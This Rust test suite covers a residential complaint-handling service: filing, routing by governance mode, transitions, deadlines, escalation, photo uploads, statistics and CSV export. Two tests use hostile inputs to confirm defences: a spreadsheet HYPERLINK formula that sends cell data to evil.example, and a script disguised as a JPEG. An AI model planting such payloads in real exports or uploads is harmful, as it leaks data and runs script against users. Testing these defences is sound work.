//! Complaints: intake, routing, the life cycle, deadlines and escalation.

use linli_domain::{policy::Role, registry::OrgKind};
use linli_tests::each;
use linli_tests::{Compound, DEMO_PASSWORD, TestApp, User};
use linli_tests::{id_in, text};
use serde_json::{Value, json};
use uuid::Uuid;

async fn file(app: &TestApp, token: &str, compound: Uuid, category: &str) -> linli_tests::Response {
    app.complaint(compound)
        .category(category)
        .by(token)
        .send()
        .await
}

/// A self-managed compound in 卫技社区 with its residents' committee, one resident and
/// one member of the committee.
struct Estate {
    compound: Compound,
    committee: Uuid,
    resident: User,
    member: User,
}

async fn estate(app: &TestApp) -> Estate {
    let compound = app
        .compound()
        .in_community(app.area_id("卫技社区").await)
        .self_managed()
        .create()
        .await;
    let committee = app
        .organisation(OrgKind::ResidentsCommittee)
        .serving(compound.id)
        .create()
        .await;
    let resident = app.user(Role::Resident).over(compound.id).create().await;
    let member = app
        .user(Role::CommitteeMember)
        .over(compound.id)
        .member_of(committee)
        .create()
        .await;
    Estate {
        compound,
        committee,
        resident,
        member,
    }
}

/// A compound in another subdistrict (同升街道's 新兴社区).
async fn elsewhere(app: &TestApp) -> Compound {
    app.compound()
        .in_community(app.area_id("新兴社区").await)
        .create()
        .await
}

async fn act(app: &TestApp, token: &str, c: &Value, body: Value) -> linli_tests::Response {
    app.post(&format!(
        "/api/v1/complaints/{}/transitions",
        c["id"].as_str().expect("the answer carries its id")
    ))
    .bearer(token)
    .header("if-match", &format!("\"v{}\"", c["version"]))
    .json(&body)
    .send()
    .await
}

#[actix_web::test]
async fn the_full_loop_from_the_residents_phone_to_closure() {
    let app = TestApp::new().await;
    let estate = estate(&app).await;
    let resident = estate.resident.token.clone();
    let filed = app.post_once(&resident, "/api/v1/complaints", "phone-retry-0001", &json!({"compound_id": estate.compound.id, "category": "sanitation", "title": "垃圾未清运", "description": "五栋旁垃圾桶两天未清运", "complainant_phone": "13700001234", "location": {"lat": 28.12, "lon": 113.01}})).await;
    filed.assert_status(201);
    let c = filed.json();
    assert_eq!(c["status"], "submitted");
    assert_eq!(c["channel"], "app");
    assert!(c["number"].as_str().is_some_and(|n| n.starts_with("LL")));
    assert!(
        c["routing_rule"]
            .as_str()
            .is_some_and(|r| r.contains("self_managed"))
    );
    assert_eq!(c["handler_org_id"], estate.committee.to_string().as_str());
    assert_eq!(
        c["complainant_phone"], "13700001234",
        "the complainant sees their own number"
    );
    // The phone's retry files nothing new.
    let again = app.post_once(&resident, "/api/v1/complaints", "phone-retry-0001", &json!({"compound_id": estate.compound.id, "category": "sanitation", "title": "垃圾未清运", "description": "五栋旁垃圾桶两天未清运", "complainant_phone": "13700001234", "location": {"lat": 28.12, "lon": 113.01}})).await;
    assert_eq!(again.json()["id"], c["id"]);
    assert_eq!(
        app.count("SELECT count(*) AS n FROM complaints WHERE $1 = $1", "")
            .await,
        1
    );

    let admin = app.token_for("admin").await;
    let listed = app.get_as(&admin, "/api/v1/complaints").await.json();
    assert_eq!(
        listed["items"][0]["complainant_phone"], "137****1234",
        "lists mask the number"
    );
    let c = act(
        &app,
        &admin,
        &c,
        json!({"action": "accept", "note": "已受理"}),
    )
    .await;
    c.assert_status(200);
    let c = act(&app, &admin, &c.json(), json!({"action": "assign"})).await;
    c.assert_status(200);
    let c = c.json();
    assert_eq!(c["status"], "assigned");
    assert!(c["sign_by"].is_string(), "the sign-for deadline is visible");
    let committee = estate.member.token.clone();
    let mine = app
        .get_as(
            &committee,
            &format!(
                "/api/v1/complaints/{}",
                c["id"].as_str().expect("the answer carries its id")
            ),
        )
        .await
        .json();
    assert_eq!(mine["allowed_actions"], json!(["sign", "return"]));
    assert_eq!(
        mine["complainant_phone"], "13700001234",
        "the handler can call back"
    );
    let c = act(&app, &committee, &c, json!({"action": "sign"}))
        .await
        .json();
    assert!(c["resolve_by"].is_string());
    let c = act(&app, &committee, &c, json!({"action": "start"}))
        .await
        .json();
    let c = act(
        &app,
        &committee,
        &c,
        json!({"action": "resolve", "resolution": "已联系保洁当日清运"}),
    )
    .await;
    c.assert_status(200);
    let c = c.json();
    assert_eq!(c["status"], "resolved");
    let c = act(
        &app,
        &resident,
        &c,
        json!({"action": "review", "rating": 5, "comment": "处理及时"}),
    )
    .await;
    c.assert_status(200);
    let c = c.json();
    assert_eq!(c["status"], "closed");
    assert_eq!(c["rating"], 5);
    let steps: Vec<&str> = each(&c["timeline"])
        .filter_map(|e| e["action"].as_str())
        .collect();
    assert_eq!(
        steps,
        [
            "submit", "accept", "assign", "sign", "start", "resolve", "review"
        ]
    );
    let events = app
        .count(
            "SELECT count(*) AS n FROM events WHERE type LIKE 'complaint.%' AND $1 = $1",
            "",
        )
        .await;
    assert_eq!(events, 7, "created + six status changes");
    let _ = DEMO_PASSWORD;
}

#[actix_web::test]
async fn routing_follows_the_governance_mode_and_the_category() {
    let app = TestApp::new().await;
    let admin = app.token_for("admin").await;
    for (compound, category, expected_kind) in [
        ("融城花苑", "elevator", "property_company"),
        ("梓园三片", "repairs", "property_company"),
        ("卫技新村", "noise", "residents_committee"),
        ("融城花苑", "illegal_construction", "law_enforcement"),
        ("融城花苑", "public_revenue", "owners_committee"),
    ] {
        let res = file(&app, &admin, app.area_id(compound).await, category).await;
        res.assert_status(201);
        let c = res.json();
        let handler = c["handler_org_id"].as_str().unwrap_or_default();
        let org = app
            .get_as(&admin, &format!("/api/v1/organisations/{handler}"))
            .await
            .json();
        assert_eq!(
            org["kind"], expected_kind,
            "{compound}/{category}: {}",
            c["routing_rule"]
        );
    }
    let bundle = file(&app, &admin, app.area_id("梓园三片").await, "repairs")
        .await
        .json();
    assert_eq!(bundle["handler_org_name"], "梓园共享物业服务有限公司");
}

#[actix_web::test]
async fn illegal_transitions_and_wrong_parties_are_refused() {
    let app = TestApp::new().await;
    let estate = estate(&app).await;
    let resident = estate.resident.token.clone();
    let c = file(&app, &resident, estate.compound.id, "noise")
        .await
        .json();
    let committee = estate.member.token.clone();
    let admin = app.token_for("admin").await;
    // The handler may not accept; the resident may not assign.
    act(&app, &committee, &c, json!({"action": "accept"}))
        .await
        .assert_problem(403, "forbidden");
    act(&app, &resident, &c, json!({"action": "accept"}))
        .await
        .assert_problem(403, "forbidden");
    // Resolving a submitted complaint is not possible at all.
    let problem = act(
        &app,
        &admin,
        &c,
        json!({"action": "resolve", "resolution": "x"}),
    )
    .await
    .assert_problem(409, "transition_not_allowed");
    assert_eq!(problem["allowed"], json!(["accept", "reject"]));
    // A vague rejection is refused: a reason from the list and an explanation are needed.
    let res = act(
        &app,
        &admin,
        &c,
        json!({"action": "reject", "reason": "other"}),
    )
    .await;
    res.assert_field_error("note");
    act(&app, &admin, &c, json!({"action": "accept"}))
        .await
        .assert_status(200);
    // Stale version.
    act(&app, &admin, &c, json!({"action": "assign"}))
        .await
        .assert_problem(412, "precondition_failed");
    // Residents of other compounds cannot see it; nor can other communities' staff.
    let ziyuan = app
        .user(Role::CommunityStaff)
        .over(app.area_id("梓园社区").await)
        .create()
        .await;
    app.get_as(
        &ziyuan.token,
        &format!(
            "/api/v1/complaints/{}",
            c["id"].as_str().expect("the answer carries its id")
        ),
    )
    .await
    .assert_problem(404, "not_found");
    // And a resident may file only for their own compound.
    file(&app, &resident, elsewhere(&app).await.id, "noise")
        .await
        .assert_problem(422, "validation_failed");
}

#[actix_web::test]
async fn an_unsatisfied_review_reopens_once_then_escalates() {
    let app = TestApp::new().await;
    let estate = estate(&app).await;
    let resident = estate.resident.token.clone();
    let admin = app.admin().await;
    let committee = estate.member.token.clone();
    let mut c = file(&app, &resident, estate.compound.id, "greening")
        .await
        .json();
    for (who, body) in [
        (&admin, json!({"action": "accept"})),
        (&admin, json!({"action": "assign"})),
        (&committee, json!({"action": "sign"})),
        (
            &committee,
            json!({"action": "resolve", "resolution": "已修剪"}),
        ),
        (
            &resident,
            json!({"action": "review", "rating": 2, "comment": "没修完"}),
        ),
    ] {
        let res = act(&app, who, &c, body).await;
        res.assert_status(200);
        c = res.json();
    }
    assert_eq!(c["status"], "in_progress");
    assert_eq!(c["reopen_count"], 1);
    let res = act(
        &app,
        &committee,
        &c,
        json!({"action": "resolve", "resolution": "全部修剪完毕"}),
    )
    .await;
    c = res.json();
    let res = act(
        &app,
        &resident,
        &c,
        json!({"action": "review", "rating": 1}),
    )
    .await;
    res.assert_status(200);
    let c = res.json();
    assert_eq!(c["status"], "closed");
    assert_eq!(
        c["escalation_level"], 1,
        "a second unsatisfied review escalates"
    );
}

#[actix_web::test]
async fn a_returned_order_is_reassigned_and_an_overdue_one_escalates_once() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let estate = estate(&app).await;
    let committee = estate.member.token.clone();
    let mut c = file(&app, &admin, estate.compound.id, "parking")
        .await
        .json();
    for (who, body) in [
        (&admin, json!({"action": "accept"})),
        (&admin, json!({"action": "assign"})),
    ] {
        c = act(&app, who, &c, body).await.json();
    }
    let res = act(&app, &committee, &c, json!({"action": "return", "reason": "needs_other_department", "note": "涉及医院车辆，需街道协调"})).await;
    res.assert_status(200);
    c = res.json();
    assert_eq!(c["status"], "returned");
    assert!(c["sign_by"].is_null());
    c = act(
        &app,
        &admin,
        &c,
        json!({"action": "assign", "handler_org_id": estate.committee}),
    )
    .await
    .json();
    assert_eq!(c["status"], "assigned");
    // The sign-for deadline passes.
    app.sql("UPDATE complaints SET sign_by = linli_now() - interval '1 minute'")
        .await;
    let mut conn = app.conn().await;
    let swept = linli_persistence::complaints::sweep_overdue(&mut conn, app.clock().now())
        .await
        .unwrap_or(0);
    assert_eq!(swept, 1);
    let again = linli_persistence::complaints::sweep_overdue(&mut conn, app.clock().now())
        .await
        .unwrap_or(9);
    assert_eq!(again, 0, "escalated once per missed deadline");
    drop(conn);
    let detail = app
        .get_as(
            &admin,
            &format!(
                "/api/v1/complaints/{}",
                c["id"].as_str().expect("the answer carries its id")
            ),
        )
        .await
        .json();
    assert_eq!(detail["overdue"], true);
    assert_eq!(detail["escalation_level"], 1);
    assert!(
        detail["timeline"]
            .as_array()
            .is_some_and(|t| t.iter().any(|e| e["action"] == "escalate"))
    );
    assert_eq!(
        app.count(
            "SELECT count(*) AS n FROM events WHERE type = 'complaint.overdue' AND $1 = $1",
            ""
        )
        .await,
        1
    );
    let overdue = app
        .get_as(&admin, "/api/v1/complaints?overdue=true")
        .await
        .json();
    assert_eq!(overdue["items"].as_array().map(Vec::len), Some(1));
    let counts = app.get_as(&admin, "/api/v1/complaints/counts").await.json();
    assert!(counts.as_array().is_some_and(|c| {
        c.iter()
            .any(|s| s["status"] == "assigned" && s["overdue"] == 1)
    }));
}

#[actix_web::test]
async fn duplicates_are_suggested_and_merged() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let compound = elsewhere(&app).await.id;
    let first = file(&app, &admin, compound, "elevator").await.json();
    let second = file(&app, &admin, compound, "elevator").await.json();
    let suggested = app
        .get_as(
            &admin,
            &format!(
                "/api/v1/complaints/{}/duplicates",
                second["id"].as_str().expect("the answer carries its id")
            ),
        )
        .await
        .json();
    assert_eq!(suggested[0]["id"], first["id"]);
    let merged = app
        .post(&format!(
            "/api/v1/complaints/{}/merge",
            second["id"].as_str().expect("the answer carries its id")
        ))
        .bearer(&admin)
        .header("if-match", &format!("\"v{}\"", second["version"]))
        .json(&json!({"into": first["id"]}))
        .send()
        .await;
    merged.assert_status(200);
    assert_eq!(merged.json()["status"], "closed");
    assert_eq!(merged.json()["duplicate_of"], first["id"]);
}

#[actix_web::test]
async fn the_hotline_imports_with_an_api_key_once_per_external_id() {
    let app = TestApp::new().await;
    let admin = app.token_for("admin").await;
    let district = app.area_id("雨花区").await;
    let (key, _) = app
        .api_key("12345 市民热线", json!(["complaints:write"]), district)
        .await;
    let body = json!({"compound_id": elsewhere(&app).await.id, "category": "noise", "title": "夜间施工噪音", "description": "晚上十一点仍在施工", "complainant_name": "市民", "complainant_phone": "13800001111", "external_id": "12345-2026-000123"});
    let first = app
        .post("/api/v1/complaints")
        .api_key(&key)
        .json(&body)
        .send()
        .await;
    first.assert_status(201);
    assert_eq!(first.json()["channel"], "hotline");
    let again = app
        .post("/api/v1/complaints")
        .api_key(&key)
        .json(&body)
        .send()
        .await;
    again.assert_field_error("external_id");
    let mut missing = body.clone();
    missing["external_id"] = Value::Null;
    app.post("/api/v1/complaints")
        .api_key(&key)
        .json(&missing)
        .send()
        .await
        .assert_problem(422, "validation_failed");
    // Staff filing for a caller must give the caller's contact.
    let mut walk_in = body.clone();
    walk_in["external_id"] = Value::Null;
    walk_in["complainant_phone"] = Value::Null;
    let res = app.post_as(&admin, "/api/v1/complaints", &walk_in).await;
    res.assert_field_error("complainant_phone");
}

#[actix_web::test]
async fn statistics_count_volume_speed_and_satisfaction() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let estate = estate(&app).await;
    let resident = estate.resident.token.clone();
    let committee = estate.member.token.clone();
    let mut c = file(&app, &resident, estate.compound.id, "sanitation")
        .await
        .json();
    for (who, body) in [
        (&admin, json!({"action": "accept"})),
        (&admin, json!({"action": "assign"})),
        (&committee, json!({"action": "sign"})),
        (
            &committee,
            json!({"action": "resolve", "resolution": "已清理"}),
        ),
        (&resident, json!({"action": "review", "rating": 4})),
    ] {
        c = act(&app, who, &c, body).await.json();
    }
    file(&app, &admin, elsewhere(&app).await.id, "sanitation")
        .await
        .assert_status(201);
    let by_category = app
        .get_as(&admin, "/api/v1/stats/complaints?group_by=category")
        .await
        .json();
    let sanitation = by_category
        .as_array()
        .into_iter()
        .flatten()
        .find(|g| g["key"] == "sanitation")
        .cloned()
        .unwrap_or_default();
    assert_eq!(sanitation["volume"], 2);
    assert_eq!(sanitation["accepted"], 1);
    assert_eq!(sanitation["resolved"], 1);
    assert_eq!(sanitation["satisfaction"], 4.0);
    assert_eq!(sanitation["on_time_rate"], 1.0);
    assert!(
        sanitation["resolve_hours_median"]
            .as_f64()
            .is_some_and(|h| h >= 0.0)
    );
    let by_sub = app.get_as(&admin, "/api/v1/stats/complaints").await.json();
    assert_eq!(by_sub.as_array().map(Vec::len), Some(2), "two subdistricts");
    // Scoped: subdistrict staff elsewhere see nothing of these.
    let staff = app
        .user(Role::SubdistrictStaff)
        .over(app.area_id("侯家塘街道").await)
        .create()
        .await;
    let theirs = app
        .get_as(&staff.token, "/api/v1/stats/complaints")
        .await
        .json();
    assert_eq!(theirs.as_array().map(Vec::len), Some(0));
    app.get_as(&admin, "/api/v1/stats/complaints?group_by=nonsense")
        .await
        .assert_problem(422, "validation_failed");
    app.get_as(&resident, "/api/v1/stats/complaints")
        .await
        .assert_problem(403, "forbidden");
}

#[actix_web::test]
async fn photos_are_checked_by_their_bytes_and_shown_only_to_those_who_see_the_complaint() {
    let app = TestApp::new().await;
    let estate = estate(&app).await;
    let resident = estate.resident.token.clone();
    let c = file(&app, &resident, estate.compound.id, "sanitation")
        .await
        .json();
    let uri = format!(
        "/api/v1/complaints/{}/attachments",
        c["id"].as_str().expect("the answer carries its id")
    );
    let uploaded = app
        .post(&format!(
            "{uri}?purpose=report&name={}",
            linli_tests::enc("楼道.jpg")
        ))
        .bearer(&resident)
        .raw("image/jpeg", linli_tests::images::jpeg())
        .send()
        .await;
    uploaded.assert_status(201);
    let photo = uploaded.json()["attachments"][0].clone();
    assert_eq!(photo["content_type"], "image/jpeg");
    assert_eq!(photo["file_name"], "楼道.jpg");
    // A script renamed to .jpg and declared as an image is refused, and nothing is stored.
    let spoof = app
        .post(&format!("{uri}?name=photo.jpg"))
        .bearer(&resident)
        .raw("image/jpeg", b"<script>alert(1)</script>".to_vec())
        .send()
        .await;
    spoof.assert_problem(415, "unsupported_media_type");
    let too_big = app
        .post(&format!("{uri}?name=big.jpg"))
        .bearer(&resident)
        .raw("image/jpeg", vec![0xFF; 6 * 1024 * 1024])
        .send()
        .await;
    too_big.assert_problem(413, "payload_too_large");
    assert_eq!(
        app.count(
            "SELECT count(*) AS n FROM complaint_attachments WHERE $1 = $1",
            ""
        )
        .await,
        1
    );
    // Only the handler posts result photos.
    app.post(&format!("{uri}?purpose=result"))
        .bearer(&resident)
        .raw("image/jpeg", linli_tests::images::jpeg())
        .send()
        .await
        .assert_problem(403, "forbidden");
    let url = photo["url"]
        .as_str()
        .expect("the answer carries its url")
        .to_owned();
    let fetched = app.get_as(&resident, &url).await;
    fetched.assert_status(200);
    assert_eq!(
        fetched.header("content-type").as_deref(),
        Some("image/jpeg")
    );
    assert!(linli_tests::images::is_picture(&fetched.body, 16, 16));
    let admin = app.token_for("admin").await;
    app.get_as(&admin, &url).await.assert_status(200);
    let outsider = app
        .user(Role::CommunityStaff)
        .over(app.area_id("梓园社区").await)
        .create()
        .await;
    app.get_as(&outsider.token, &url)
        .await
        .assert_problem(404, "not_found");
    app.get_public(&url)
        .await
        .assert_problem(401, "unauthorized");
}

#[actix_web::test]
async fn an_approved_extension_moves_the_deadline_and_holidays_are_configurable() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let estate = estate(&app).await;
    let committee = estate.member.token.clone();
    let mut c = file(&app, &admin, estate.compound.id, "repairs")
        .await
        .json();
    for (who, body) in [
        (&admin, json!({"action": "accept"})),
        (&admin, json!({"action": "assign"})),
        (&committee, json!({"action": "sign"})),
    ] {
        c = act(&app, who, &c, body).await.json();
    }
    let before = c["resolve_by"].as_str().unwrap_or_default().to_owned();
    let id = id_in(&c["id"]);
    app.post_as(
        &admin,
        &format!("/api/v1/complaints/{id}/extensions"),
        &json!({"hours": 24, "reason": "需要采购配件"}),
    )
    .await
    .assert_problem(403, "forbidden");
    let asked = app
        .post_as(
            &committee,
            &format!("/api/v1/complaints/{id}/extensions"),
            &json!({"hours": 24, "reason": "需要采购配件"}),
        )
        .await;
    asked.assert_status(201);
    app.post_as(
        &committee,
        &format!("/api/v1/complaints/{id}/extensions"),
        &json!({"hours": 8, "reason": "再申请一次"}),
    )
    .await
    .assert_problem(409, "extension_pending");
    let ext = text(&asked.json()["extensions"][0]["id"]);
    app.post_as(
        &committee,
        &format!("/api/v1/complaints/{id}/extensions/{ext}/decision"),
        &json!({"approve": true}),
    )
    .await
    .assert_problem(403, "forbidden");
    let decided = app
        .post_as(
            &admin,
            &format!("/api/v1/complaints/{id}/extensions/{ext}/decision"),
            &json!({"approve": true, "note": "同意"}),
        )
        .await;
    decided.assert_status(200);
    let after = text(&decided.json()["resolve_by"]);
    assert!(after > before, "{before} -> {after}");
    assert_eq!(decided.json()["extensions"][0]["status"], "approved");
    // The calendar is data: declaring a holiday is audited and listed.
    app.put_as(
        &committee,
        "/api/v1/calendar-days/2026-12-31",
        &json!({"kind": "holiday"}),
    )
    .await
    .assert_problem(403, "forbidden");
    app.put_as(
        &admin,
        "/api/v1/calendar-days/2026-12-31",
        &json!({"kind": "holiday", "note": "测试假日"}),
    )
    .await
    .assert_status(204);
    let days = app
        .get_as(&admin, "/api/v1/calendar-days?year=2026")
        .await
        .json();
    assert!(days.as_array().is_some_and(|d| {
        d.iter()
            .any(|x| x["day"] == "2026-12-31" && x["kind"] == "holiday")
    }));
    assert!(days.as_array().is_some_and(|d| {
        d.iter()
            .any(|x| x["day"] == "2026-10-10" && x["kind"] == "workday")
    }));
}

#[actix_web::test]
async fn the_inbox_exports_as_csv_with_phones_masked() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let lifts = elsewhere(&app).await;
    let estate = estate(&app).await;
    file(&app, &admin, lifts.id, "elevator")
        .await
        .assert_status(201);
    file(&app, &admin, estate.compound.id, "noise")
        .await
        .assert_status(201);
    let res = app
        .get_as(&admin, "/api/v1/complaints/export?category=elevator")
        .await;
    res.assert_status(200);
    assert!(
        res.header("content-type")
            .is_some_and(|t| t.starts_with("text/csv"))
    );
    let text = res.text();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().flatten().collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].get(1), Some(lifts.name.as_str()));
    assert_eq!(rows[0].get(14), Some("137****1234"));
    assert!(!text.contains("13700001234"));
    let resident = estate.resident.token;
    let own = app.get_as(&resident, "/api/v1/complaints/export").await;
    own.assert_status(200);
    assert_eq!(
        csv::Reader::from_reader(own.text().trim_start_matches('\u{feff}').as_bytes())
            .records()
            .count(),
        0,
        "residents export only their own"
    );
}

#[actix_web::test]
async fn a_title_written_as_a_formula_is_exported_inert() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let compound = app.compound().create().await;
    let attack = "=HYPERLINK(\"http://evil.example/\"&A1,\"点此查看\")";
    app.complaint(compound.id)
        .title(attack)
        .phone("13700001234")
        .create()
        .await;
    let res = app
        .get_as(
            &admin,
            &format!("/api/v1/complaints/export?compound_id={}", compound.id),
        )
        .await;
    res.assert_status(200);
    assert!(
        res.header("content-disposition")
            .is_some_and(|d| d.contains("filename*=UTF-8''%E8%AF%89%E6%B1%82.csv"))
    );
    let text = res.text();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().flatten().collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].get(3), Some(format!("'{attack}").as_str()));
}

#[actix_web::test]
async fn inactive_categories_are_listed_for_configuration_only() {
    let app = TestApp::new().await;
    let admin = app.token_for("admin").await;
    let all = app
        .get_as(&admin, "/api/v1/complaint-categories?all=true")
        .await
        .json();
    let greening = all
        .as_array()
        .into_iter()
        .flatten()
        .find(|c| c["code"] == "greening")
        .cloned()
        .unwrap_or_default();
    app.put("/api/v1/complaint-categories/greening")
        .bearer(&admin)
        .header("if-match", &format!("\"v{}\"", greening["version"]))
        .json(&json!({"sign_hours": 8, "resolve_hours": 120, "handler_rule": "governance_mode", "active": false}))
        .send()
        .await
        .assert_status(200);
    let active = app
        .get_as(&admin, "/api/v1/complaint-categories")
        .await
        .json();
    assert!(
        !active
            .as_array()
            .is_some_and(|c| c.iter().any(|x| x["code"] == "greening"))
    );
    let all = app
        .get_as(&admin, "/api/v1/complaint-categories?all=true")
        .await
        .json();
    assert!(all.as_array().is_some_and(|c| {
        c.iter()
            .any(|x| x["code"] == "greening" && x["active"] == false)
    }));
    let estate = estate(&app).await;
    let resident = estate.resident.token;
    app.get_as(&resident, "/api/v1/complaint-categories?all=true")
        .await
        .assert_problem(403, "forbidden");
    file(&app, &resident, estate.compound.id, "greening")
        .await
        .assert_problem(422, "validation_failed");
}
